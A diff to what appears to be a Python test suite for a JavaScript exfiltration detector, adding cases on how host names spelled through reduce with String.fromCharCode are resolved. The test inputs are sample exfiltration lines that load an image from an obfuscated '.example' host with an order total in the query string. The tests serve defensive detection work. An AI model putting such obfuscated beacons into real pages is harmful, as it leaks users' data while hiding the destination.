@@ -268,6 +268,12 @@ def test_a_callback_that_reads_what_is_unknown_leaves_the_host_unknown():
     code = ("const a = [104]; a.push(105); const h = a.map(c => c + 1).join('');"
             "new Image().src = 'https://x' + h + '.example/?' + flowUi.get('order.total');")
     assert [f[2] for f in found(code) if f[0] == "exfil.state-to-url"] == [[]]
+    # A reduce: spelled when it ends in a string; a number, no initial value, four parameters: not.
+    for spelled, host in (("[104, 105].reduce((a, c) => a + String.fromCharCode(c), '')", "xhi.example"),
+                          ("[1, 2, 3].reduce((a, c) => a + c, 0)", None), ("[104, 105].reduce((a, c) => a + c)", None),
+                          ("[104, 105].reduce((a, c, i, all) => a + c, '')", None)):
+        code = f"new Image().src = 'https://x' + {spelled} + '.example/?' + flowUi.get('order.total');"
+        assert [f[2] for f in found(code) if f[0] == "exfil.state-to-url"] == [[host] if host else []], spelled
     # Promises, a destructured or defaulted parameter: not followed.
     for callback in ("async c => String.fromCharCode(c)", "async function (c) { return String.fromCharCode(c); }",
                      "([c]) => c", "(c = 1) => String.fromCharCode(c)"):
